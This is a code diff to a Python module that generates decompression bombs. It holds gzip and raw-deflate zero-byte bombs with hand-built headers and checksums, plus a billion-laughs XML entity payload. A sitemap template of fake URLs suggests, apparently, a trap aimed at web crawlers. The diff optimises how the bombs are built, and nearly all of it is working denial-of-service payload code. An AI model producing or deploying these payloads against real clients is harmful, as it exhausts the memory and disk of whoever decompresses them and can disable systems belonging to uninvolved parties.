@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import gzip
 import zlib
+from collections.abc import Callable
 from functools import cache
 
 import brotli
@@ -14,11 +15,24 @@ LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
 LOC = "<url><loc>{base}/2026/11/never-{n}.html</loc></url>"
 
 
+def _deflated(megabytes: int) -> bytes:
+    """Zeros, so many once unpacked: one block of them, again and again."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = packer.compress(ZEROS) + packer.flush(zlib.Z_FULL_FLUSH)
+    return block * megabytes + packer.flush()
+
+
+def _checked(check: Callable[[bytes, int], int], megabytes: int, start: int) -> int:
+    for _ in range(megabytes):
+        start = check(ZEROS, start)
+    return start
+
+
 @cache
 def gzip_bomb(megabytes: int = 100, layers: int = 1) -> bytes:
     """Zeros, so many once unpacked."""
-    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
-    body = b"".join([*(packer.compress(ZEROS) for _ in range(megabytes)), packer.flush()])
+    end = _checked(zlib.crc32, megabytes, 0).to_bytes(4, "little") + (megabytes << 20).to_bytes(4, "little")
+    body = b"\x1f\x8b\x08" + bytes(6) + b"\xff" + _deflated(megabytes) + end
     for _ in range(layers - 1):
         body = gzip.compress(body)
     return body
@@ -32,8 +46,9 @@ def small_bomb() -> bytes:
 
 @cache
 def deflate_bomb(megabytes: int = 100, window: int = 15) -> bytes:
-    packer = zlib.compressobj(9, zlib.DEFLATED, window)
-    return b"".join([*(packer.compress(ZEROS) for _ in range(megabytes)), packer.flush()])
+    if window < 0:
+        return _deflated(megabytes)
+    return b"\x78\xda" + _deflated(megabytes) + _checked(zlib.adler32, megabytes, 1).to_bytes(4)
 
 
 @cache
